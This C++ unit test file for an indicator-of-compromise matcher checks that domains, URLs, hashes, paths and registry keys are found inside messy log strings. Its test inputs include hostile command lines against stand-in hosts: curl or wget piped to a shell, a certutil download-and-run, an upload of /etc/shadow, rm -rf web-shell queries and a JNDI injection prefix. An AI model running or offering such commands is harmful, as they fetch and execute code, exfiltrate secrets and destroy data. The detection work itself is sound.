// SPDX-License-Identifier: Apache-2.0
// What stands beside indicators in logs, and is none of theirs.
#include <string>
#include <utility>
#include <vector>

#include "hunt/indicator/testing/found.h"

namespace backtrail::hunt {
namespace {

using testing::is_found;
using testing::Kind;
using testing::kMd5;

TEST(IndicatorMarks, WhatSomethingIsJoinedToIsFound) {
  const std::string trace = "C:\\Windows\\SYSTEM32\\ntdll.dll+9c534|C:\\Users\\Public\\evil.dll+212ee|UNKNOWN(00007FF)";
  EXPECT_TRUE(is_found(Kind::file_name, "ntdll.dll", trace));
  EXPECT_TRUE(is_found(Kind::file_name, "evil.dll", trace));
  EXPECT_TRUE(is_found(Kind::path, "C:\\Users\\Public\\evil.dll", trace));
  EXPECT_TRUE(is_found(Kind::path, "C:\\Temp\\p1.bin", "copy /b C:\\Temp\\p1.bin+C:\\Temp\\p2.bin"));
  EXPECT_TRUE(is_found(Kind::file_name, "bad.dll", "rundll32 C:\\Users\\Public\\bad.dll#1"));
  EXPECT_TRUE(is_found(Kind::file_name, "tool3.exe", "tool3.exe!main"));
  EXPECT_TRUE(is_found(Kind::file_name, "x5.exe", "cmd /c x4.exe&&C:\\Temp\\x5.exe^&echo"));
  EXPECT_TRUE(is_found(Kind::file_name, "tool4.exe", "tool4.exe@0x1f"));
  EXPECT_FALSE(is_found(Kind::file_name, "bob.smith", "bob.smith@evil.example"));
  EXPECT_TRUE(is_found(Kind::file_name, "notepad++.exe", "run notepad++.exe now"));
  EXPECT_TRUE(is_found(Kind::file_name, "tool6.exe", "TOOL6.EXE-1A2B3C4D.pf"));
  EXPECT_FALSE(is_found(Kind::file_name, "tool6.exe", "TOOL6.EXE-1A2B3C4D.pfx"));
  EXPECT_TRUE(is_found(Kind::domain, "evil.example", "\u201cevil.example\u201d\u2026"));
  EXPECT_TRUE(is_found(Kind::domain, "evil.example", "evil.example\u2192192.0.2.7"));
  EXPECT_TRUE(is_found(Kind::path, "C:\\Temp\\t17.exe", "\u201cC:\\Temp\\t17.exe\u201d"));
  EXPECT_TRUE(is_found(Kind::registry_key, "HKLM\\Software\\K68", "\u201cHKLM\\Software\\K68\u201d"));
  EXPECT_TRUE(is_found(Kind::registry_key, "HKLM\\Software\\K68", "reg save hklm\\software\\k68."));
  EXPECT_TRUE(is_found(Kind::url, "http://evil.example/a", R"({"u":"http:\/\/evil.example\/a"})"));
}

TEST(IndicatorMarks, UrlsEndBeforeMarksThatShellsAndListsHave) {
  const auto is = [](const std::string& url, const std::string& value) { return is_found(Kind::url, url, value); };
  EXPECT_TRUE(is("http://e1.example/x.sh", "curl -s http://e1.example/x.sh|bash"));
  EXPECT_TRUE(is("http://e2.example/x.sh", "wget http://e2.example/x.sh;sh x.sh"));
  EXPECT_TRUE(is("http://e2.example/x.sh", "(wget http://e2.example/x.sh)&&sh x.sh"));
  EXPECT_TRUE(is("http://a.example/x;j=1,2|3", "http://a.example/x;j=1,2|3"));
  EXPECT_TRUE(is("https://e2.example/l.php", "/?url=https%3A%2F%2Fe2.example%2Fl.php&data=05%7C01"));
  EXPECT_TRUE(is("http://e4.example/x.zip", "https://www.g.example/url?q=http://e4.example/x.zip&sa=D"));
  EXPECT_TRUE(is("http://x.example/p.php?a=3&b=2", "u=http%3A%2F%2Fx.example%2Fp.php%3Fa%3D3%26b%3D2&f=y"));
  EXPECT_TRUE(is("http://e5.example/x.sh", "curl http://e5.example/x.sh& sleep 1"));
  EXPECT_TRUE(is("http://e6.example/x.exe", "certutil -f http://e6.example/x.exe&start x.exe"));
  EXPECT_FALSE(is("http://e7.example/?a=1", "http://e7.example/?a=1&b=2"));
  EXPECT_TRUE(is("http://e7.example/x", "[http://e7.example/x](http://e8.example/y) **http://e9.example/z**"));
  EXPECT_TRUE(is("http://e9.example/z", "[http://e7.example/x](http://e8.example/y) **http://e9.example/z**"));
  EXPECT_TRUE(is("http://n3.example/m", "GET /c=cd+/tmp;wget+http://n3.example/m;chmod+777+m"));
  EXPECT_TRUE(is("git+ssh://g.example/x", "git+ssh://g.example/x"));
  EXPECT_TRUE(is("http://e.example/a", R"(iwr \"http://e.example/a\")"));
  EXPECT_TRUE(is("http://e.example/a?b=1&c=2", R"({"u":"http://e.example/a?b=1\u0026c=2"})"));
  EXPECT_TRUE(is("http://e.example/a", "/r?u%3Dhttp://e.example/a"));
  EXPECT_TRUE(is("http://e.example/a", "href=&quot;http://e.example/a&quot;"));
  std::string list;
  for (int i = 0; i < 100; ++i) list += "http://l" + std::to_string(i) + ".example/p,";
  for (int i = 0; i < 100; ++i) EXPECT_TRUE(is("http://l" + std::to_string(i) + ".example/p", list)) << i;
}

TEST(IndicatorMarks, WhatStandsBesideEscapesAndMarksIsFound) {
  EXPECT_TRUE(is_found(Kind::md5, kMd5, R"(sum\n)" + kMd5 + R"(\nfrom\tevil.example)"));
  EXPECT_TRUE(is_found(Kind::md5, kMd5, "varbinary 0x" + kMd5));
  EXPECT_TRUE(is_found(Kind::md5, kMd5, "\x1b[1m" + kMd5 + "\x1b[0m"));
  EXPECT_TRUE(is_found(Kind::domain, "evil.example", R"(sum\n1\nfrom\tevil.example)"));
  EXPECT_TRUE(is_found(Kind::domain, "evil.example", "1#011evil.example#012end"));
  EXPECT_TRUE(is_found(Kind::domain, "evil.example", "PACKET Q [0001] A (3)www(4)evil(7)example(0)"));
  EXPECT_TRUE(is_found(Kind::domain, "evil.example", "\u8fde\u63a5\u5230evil.example\u5931\u8d25"));
  EXPECT_TRUE(
      is_found(Kind::url, "http://evil.example/a?b", "echo Z2V0IGh0dHA6Ly9ldmlsLmV4YW1wbGUvYT9iIHwgc2g= | base64 -d"));
  EXPECT_TRUE(is_found(Kind::email, "q@evil.example", R"({"from":"\u003cq@evil.example\u003e"})"));
  EXPECT_TRUE(is_found(Kind::file_name, "evil6.exe", R"(run \"evil6.exe\" now)"));
  EXPECT_TRUE(is_found(Kind::path, "/opt/x/run.sh", "java#012/opt/x/run.sh#012 at y"));
  EXPECT_TRUE(is_found(Kind::path, "C:\\x\\a.exe", R"(Error at C:\x\a.exe\n at y)"));
  EXPECT_FALSE(is_found(Kind::file_name, "tdll.dll", R"(C:\Windows\System32\ntdll.dll)"));
}

TEST(IndicatorMarks, WhatStandsBesideWhatIsNoLetterIsFound) {
  const auto each = [](const std::string& before, const std::string& behind) {
    for (const auto& [kind, text] : std::vector<std::pair<Kind, std::string>>{{Kind::domain, "evil.example"},
                                                                              {Kind::ipv4, "192.0.2.7"},
                                                                              {Kind::ipv6, "2001:db8::7"},
                                                                              {Kind::md5, kMd5},
                                                                              {Kind::email, "q@evil.example"},
                                                                              {Kind::url, "http://evil.example/a?b"},
                                                                              {Kind::file_name, "evil6.exe"},
                                                                              {Kind::path, "/opt/x/run.sh"},
                                                                              {Kind::path, "C:\\x\\a.exe"},
                                                                              {Kind::registry_key, "HKCU\\x"}}) {
      const std::string value = before + text + behind;
      EXPECT_TRUE(is_found(kind, text, value)) << value;
    }
  };
  each("a=b%0d%0a", "%0d%0ax");
  each("a%09", "%00");
  each("x%u0022", "%u0022y");
  each("q=%E2%80%9C", "%E2%80%9D");
  each("\\xe2\\x80\\x9c", "\\xe2\\x80\\x9d");
  each("/shell?cd+/tmp;rm+-rf+*;wget+", "+;chmod+777");
  each("/shell?cd+>x|y+", "+<z");
  each("\U0001f600", "\u2713");
  each("\ufffd", "\ufffd");
  each("\x93", "\x94");  // quotation marks of Windows' code page
  each("[\\'", "\\', x]");
  each("<!--", "-->");
  each("x->", "->y");
  EXPECT_TRUE(is_found(Kind::ipv6, "2001:db8::9", "lease 2001:db8::1...2001:db8::9"));
  EXPECT_TRUE(is_found(Kind::ipv6, "2001:db8::9", "\u0430\u0434\u0440\u0435\u04412001:db8::9\u00e9"));
  EXPECT_TRUE(is_found(Kind::ipv4, "192.0.2.9", "192.0.2.1..192.0.2.9"));
  EXPECT_TRUE(is_found(Kind::url, "http://evil.example/a", "Location: http://evil.example/a..Server: x"));
  EXPECT_TRUE(is_found(Kind::email, "q@evil.example", "....From:q@evil.example..To:"));
  EXPECT_TRUE(is_found(Kind::file_name, "evil6.exe", "x...evil6.exe..y"));
  EXPECT_TRUE(is_found(Kind::domain, "evil.example", "GET / HTTP/1.1..Host: evil.example..Accept: */*"));
  EXPECT_TRUE(is_found(Kind::url, "http://a.example/", "__http://a.example/__ ~~http://b.example/~~"));
  EXPECT_TRUE(is_found(Kind::url, "http://a.example/x", "_http://a.example/x__"));
  EXPECT_TRUE(is_found(Kind::registry_key, "HKCU\\x", "HKCU\\x: deleted"));
}

TEST(IndicatorMarks, WhatCommandsNameBehindMarksAndOptions) {
  EXPECT_TRUE(is_found(Kind::path, "/etc/shadow.tgz", "curl --data-binary @/etc/shadow.tgz -F f=@stolen.zip"));
  EXPECT_TRUE(is_found(Kind::file_name, "stolen.zip", "curl --data-binary @/etc/shadow.tgz -F f=@stolen.zip"));
  EXPECT_TRUE(is_found(Kind::path, "/tmp/e8", "curl -o/tmp/e8"));
  EXPECT_TRUE(is_found(Kind::path, "C:\\out", "7z x a.7z -oC:\\out"));
  EXPECT_TRUE(is_found(Kind::path, "/opt/interp", "#!/opt/interp -x"));
  EXPECT_FALSE(is_found(Kind::path, "/x", "bob@/x") || is_found(Kind::path, "/x", "a-o/x"));
  const std::string query =
      "/c?cmd=cd+/tmp;rm+-rf+f1.exe;sh+/opt/f4/b.sh&q=to+joe@f7.example+x&d=del+%5C%5Cf6srv%5Cs%5Cf6.exe";
  EXPECT_TRUE(is_found(Kind::file_name, "f1.exe", query));
  EXPECT_TRUE(is_found(Kind::path, "/opt/f4/b.sh", query));
  EXPECT_TRUE(is_found(Kind::path, R"(\\f6srv\s\f6.exe)", query));
  EXPECT_TRUE(is_found(Kind::email, "joe@f7.example", query));
  for (const char* value :
       {"[AF_INET6]2001:db8::7:1194", "[client 2001:db8::7:53211] x", "2001:db8::1-2001:db8::7 in use",
        "2001:db8::7-2001:db8::9", "joe/2001:db8::7:443 MULTI", "2001:db8:0:0:0:0:0:7:53211"})
    EXPECT_TRUE(is_found(Kind::ipv6, "2001:db8::7", value)) << value;
  EXPECT_FALSE(is_found(Kind::ipv6, "2001:db8::7", "2001:db8::7:5"));
  EXPECT_TRUE(is_found(Kind::ipv6, "2001:db8::7", "src:2001:db8::7 dst:2001:db8::8"));
  EXPECT_FALSE(is_found(Kind::ipv6, "db8::7", "2001:db8::7"));
  for (const char* value : {"HKCU\\x deleted", "HKCU\\x|y", "HKCU\\x, HKLM\\z"})
    EXPECT_TRUE(is_found(Kind::registry_key, "HKCU\\x", value)) << value;
  EXPECT_FALSE(is_found(Kind::registry_key, "HKCU\\x", "HKCU\\x y\\z"));
}

TEST(IndicatorMarks, WhatStandsBesideEscapesOfBytesAndNamesOfHtmlIsFound) {
  for (const auto& [kind, text] : std::vector<std::pair<Kind, std::string>>{{Kind::domain, "evil.example"},
                                                                            {Kind::ipv4, "192.0.2.7"},
                                                                            {Kind::md5, kMd5},
                                                                            {Kind::file_name, "evil6.exe"},
                                                                            {Kind::path, "/opt/x/run.sh"}}) {
    for (const char* mark :
         {"\\u0000", "\\U0001F525", "\\040", "\\042", "\\|", "&rsquo;", "&ldquo;", "&hellip;", "&#8217;"}) {
      const std::string value = std::string("a").append(mark).append(text).append(mark).append("z");
      EXPECT_TRUE(is_found(kind, text, value)) << value;
    }
  }
  EXPECT_TRUE(is_found(Kind::path, "C:\\x\\a.exe", "C:\\x\\a.exe\\|y"));
  EXPECT_FALSE(is_found(Kind::file_name, "25.exe", "C:\\x\\U0001F525.exe"));
}

TEST(IndicatorMarks, SharesOfHostsAreFoundHoweverTheyAreWritten) {
  for (const char* value :
       {R"(-Path:\\\\srv\\share\\x.exe)", R"(-Path:\\srv\share\x.exe)", R"(file:_\\srv\share\x.exe)",
        R"(f=\\srv\share\x.exe)", "//srv/share/x.exe", "file://srv/share/x.exe", "open smb://SRV/share/x.exe now",
        R"(\Device\Mup\srv\share\x.exe)", R"(\\?\UNC\srv\share\x.exe)"})
    EXPECT_TRUE(is_found(Kind::path, R"(\\srv\share\x.exe)", value)) << value;
  for (const char* value : {R"(\\srv\c$\x\a.exe)", "//srv/C$/x/a.exe", R"(\Device\Mup\srv\c$\x\a.exe)"})
    EXPECT_TRUE(is_found(Kind::path, R"(C:\x\a.exe)", value)) << value;
  EXPECT_TRUE(is_found(Kind::path, R"(\\srv\c$\x\a.exe)", R"(\\srv\c$\x\a.exe)"));
  EXPECT_FALSE(is_found(Kind::path, R"(\\srv\x.exe)", "http://srv/x.exe"));
  EXPECT_FALSE(is_found(Kind::path, R"(\\x\a.exe)", R"(C:\\x\\a.exe)"));
  EXPECT_TRUE(is_found(Kind::path, R"(C:\x\a.exe)", R"(C:\\x\\a.exe)"));
}

TEST(IndicatorMarks, TextsInBase64AreFoundBehindWhatBase64MayHoldItself) {
  const std::string said = "d2dldCBodHRwOi8vZXZpbC5leGFtcGxlL2EvYiB8IHNo";  // wget http://evil.example/a/b | sh
  for (const char* before : {"${jndi:ldap://192.0.2.7:1389/Basic/Command/Base64/", "x+", "data=", "/"}) {
    EXPECT_TRUE(is_found(Kind::url, "http://evil.example/a/b", before + said)) << before;
    EXPECT_TRUE(is_found(Kind::domain, "evil.example", before + said + "/")) << before;
  }
}

TEST(IndicatorMarks, UrlsAreFoundBeforeLinesAndFragmentsAndBehindUsers) {
  for (const char* value :
       {"at http://a.example/x.js:10:5)", "http://a.example/x.js#top", "http://bob:pw@a.example/x.js?y",
        "http://bob@a.example/x.js|y", "(http://a.example/x.js:word)"}) {
    EXPECT_EQ(is_found(Kind::url, "http://a.example/x.js", value), !std::string(value).ends_with("?y")) << value;
  }
  for (const char* value : {"see hxxp://a.example/x", "hXXp[:]//a[.]example/x", "hxxp://joe@a.example/x"})
    EXPECT_TRUE(is_found(Kind::url, "http://a.example/x", value)) << value;
  EXPECT_TRUE(is_found(Kind::url, "https://a.example/x", "HXXPS://a.example/x,"));
  EXPECT_TRUE(is_found(Kind::url, "http://a.example:8080/x", "http://u:p@a.example:8080/x:7"));
  EXPECT_TRUE(is_found(Kind::url, "http://bob@a.example/x", "http://bob@a.example/x"));
  EXPECT_TRUE(is_found(Kind::url, "http://a.example/x#top", "http://a.example/x#top"));
  EXPECT_FALSE(is_found(Kind::url, "http://a.example:8/", "http://a.example:80/"));
}

}  // namespace
}  // namespace backtrail::hunt
